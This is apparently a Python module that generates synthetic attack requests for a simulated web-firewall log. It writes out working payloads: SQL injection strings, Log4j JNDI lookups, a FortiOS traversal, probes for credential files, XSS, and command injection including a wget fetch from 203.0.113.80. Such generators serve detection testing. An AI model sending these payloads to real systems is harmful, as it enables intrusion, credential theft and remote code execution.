"""Requests that mean harm, as they stand in a log. Each line of a table: what the WAF calls it -> requests."""

SQLI_UNION, SQLI_BOOLEAN, SQLI_TIME = "SQLインジェクション (UNION)", "SQLインジェクション (条件式)", "SQLインジェクション (時間差)"
LOG4J, NIKTO = "Apache Log4j JNDI 参照 CVE-2021-44228", "SQLインジェクション (診断ツール Nikto)"
SCRIPTS = "/shop/item.php /shop/list.php /shop/review.php /cart/view.php /news/detail.php /event/entry.php /member/profile.php".split()
KEYS = "id cat page item_no sort maker area year q ref".split()
SQL_TAILS = {
    SQLI_UNION: ["%27+UNION+ALL+SELECT+{a},{b},CONCAT(0x71,version(),0x71)--+-", "-1+UnIoN/**/SeLeCt+{a},user(),{b}%23",
                 "%27)+union+select+null,table_name+from+information_schema.tables+limit+{a},1--+"],
    SQLI_BOOLEAN: ["%27+AND+{a}%3D{a}+AND+%27x%27%3D%27x", "1)+OR+{a}%3D{a}--+", "%27+oR+%27{b}%27+lIkE+%27{b}"],
    SQLI_TIME: ["%27+AND+SLEEP(5)--+{a}", "1%3B+WAITFOR+DELAY+%270:0:5%27--", "1+AND+(SELECT+{a}+FROM+(SELECT(SLEEP(5)))x{b})"],
}
LOG4J_FORMS = ["${jndi:ldap://203.0.113.90:1389/o{a}}", "${${lower:j}ndi:${lower:l}dap://203.0.113.90/{a}}",
               "${${::-j}${::-n}${::-d}${::-i}:rmi://203.0.113.101:1099/x{a}}", "${jndi:dns://c{a}.example.com/q}"]


def sqli(chance, signature):
    tail = chance.pick(SQL_TAILS[signature]).replace("{a}", str(chance.between(1, 90))).replace("{b}", str(chance.between(2, 9)))
    return f"{chance.pick(SCRIPTS)}?{chance.pick(KEYS)}={chance.between(1, 4000)}{tail}"


def log4j(chance):
    """(url, agent): the lookup stands in the agent more often than in the address."""
    lookup = chance.pick(LOG4J_FORMS).replace("{a}", f"{chance.below(65536):04x}")
    if chance.unit() < 0.6:
        return f"{chance.pick(SCRIPTS)}?{chance.pick(KEYS)}={chance.between(1, 4000)}", lookup
    quoted = lookup.replace("{", "%7B").replace("}", "%7D").replace("$", "%24")
    return f"{chance.pick(SCRIPTS)}?{chance.pick(KEYS)}={quoted}", "Mozilla/5.0"


def nikto(chance):
    url = sqli(chance, chance.pick([SQLI_UNION, SQLI_BOOLEAN]))
    return url, f"Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:{chance.between(100, 6999):06})"


FORTIOS = "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession"
WORDPRESS = ["/wp-config.php", "/.wp-config.php.swp", "/wp-config.php.bak", "/wp-config.txt", "/wp-config.bak", "/blog/wp-config.php~",
             "/wp-content/backup-db/backup.sql.gz"]
CREDENTIALS = ["/.env", "/.git/config", "/.aws/credentials", "/api/.env.production", "/config/database.yml", "/.ssh/id_rsa", "/.htpasswd"]
IIS_ADMIN = ["/iisadmin/", "/scripts/iisadmin/ism.dll?http/dir", "/iisadmpwd/aexp2b.htr"]
ORACLE_ADMIN = ["/em/console/logon/logon", "/console/login/LoginForm.jsp", "/isqlplus/", "/apex/apex_admin"]
ORACLE_MONITOR = ["/dms0", "/dms/AggreSpy", "/soap/servlet/Spy", "/dmsoc4j/AggreSpy"]
TRAVERSAL = ["/download?file=..%2f..%2f..%2fetc%2fpasswd", "/static/..%252f..%252f..%252fetc/passwd",
             "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "/img/%c0%ae%c0%ae/%c0%ae%c0%ae/boot.ini"]
XSS = ["/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", "/search?q=%22%3E%3Cimg+src%3Dx+onerror%3Dalert(1)%3E"]
SHELL = ["/cgi-bin/status.cgi?host=192.0.2.1%3Bcat%20/etc/shadow", "/ping?ip=127.0.0.1%7Cid", "/boaform/admin/formPing?target=;wget+http://203.0.113.80/x.sh"]
CONSOLES = ["/phpmyadmin/index.php", "/manager/html", "/actuator/env", "/solr/admin/cores", "/administrator/index.php", "/HNAP1/"]
BACKGROUND = [(FORTIOS, 5), (WORDPRESS, 14), (CREDENTIALS, 18), (IIS_ADMIN, 10), (ORACLE_ADMIN, 9), (ORACLE_MONITOR, 6), (TRAVERSAL, 7),
              (XSS, 4), (SHELL, 5), (CONSOLES, 16)]


def background(chance):
    """A request of the kind that any web server gets all day long."""
    group = chance.weighted(BACKGROUND)
    return group if isinstance(group, str) else chance.pick(group)
